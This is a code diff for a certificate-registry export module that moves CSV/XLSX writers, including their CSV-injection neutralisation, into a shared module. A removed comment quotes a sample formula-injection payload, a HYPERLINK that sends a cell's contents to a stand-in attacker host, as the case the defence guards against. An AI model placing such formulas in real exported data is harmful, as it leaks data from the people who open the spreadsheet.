@@ -3,8 +3,6 @@ the certificate register as JSON for a national registry. Rows come from one que
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 from collections.abc import Iterator
 from datetime import date, timedelta
@@ -16,6 +14,7 @@ from certcenter.applications.models import Application
 from certcenter.candidates.models import CandidateProfile
 from certcenter.certificates.models import Certificate
 from certcenter.certificates.services import public_record
+from certcenter.core.spreadsheets import to_csv, to_xlsx
 from certcenter.extensions import db
 from certcenter.framework.models import FrameworkLevel
 from certcenter.qualifications.models import Qualification
@@ -138,54 +137,6 @@ def rows(dataset: str, filters: dict[str, Any]) -> tuple[list[str], Iterator[lis
             ]
 
     return APPLICATION_COLUMNS, application_rows()
-
-
-# A spreadsheet takes a cell that begins with one of these as a formula (or, for tab and carriage return, shifts
-# it into one): a candidate named =HYPERLINK("http://evil.example/?x="&A1,"Click") would be a live link in the
-# administrator's spreadsheet. OWASP's CSV injection guidance: prefix such a cell with a single quote.
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def neutralise(value: Any) -> Any:
-    """A text cell as a spreadsheet shows it as text; numbers, dates and None unchanged."""
-    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
-        return "'" + value
-    return value
-
-
-def to_csv(columns: list[str], data: Iterator[list[Any]]) -> bytes:
-    """UTF-8 with a byte-order mark, so that spreadsheet programs read the Kazakh letters right."""
-    buffer = io.StringIO()
-    writer = csv.writer(buffer)
-    writer.writerow(columns)
-    writer.writerows([neutralise(value) for value in row] for row in data)
-    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
-
-
-def to_xlsx(columns: list[str], data: Iterator[list[Any]]) -> bytes:
-    from openpyxl import Workbook
-    from openpyxl.cell import WriteOnlyCell
-    from openpyxl.cell.cell import ERROR_CODES
-
-    workbook = Workbook(write_only=True)  # rows are streamed to the file, not kept as cells
-    sheet = workbook.create_sheet("register")
-    sheet.append(columns)
-
-    def cell(value: Any) -> Any:
-        # openpyxl writes a string that begins with "=" as a formula (none is left once neutralised) and one that
-        # reads "#N/A", "#REF!"... as an error value: those few become text cells explicitly
-        value = neutralise(value)
-        if isinstance(value, str) and value in ERROR_CODES:
-            text = WriteOnlyCell(sheet, value)
-            text.data_type = "s"
-            return text
-        return value
-
-    for row in data:
-        sheet.append([cell(value) for value in row])
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
 
 
 def register_json(filters: dict[str, Any]) -> bytes:
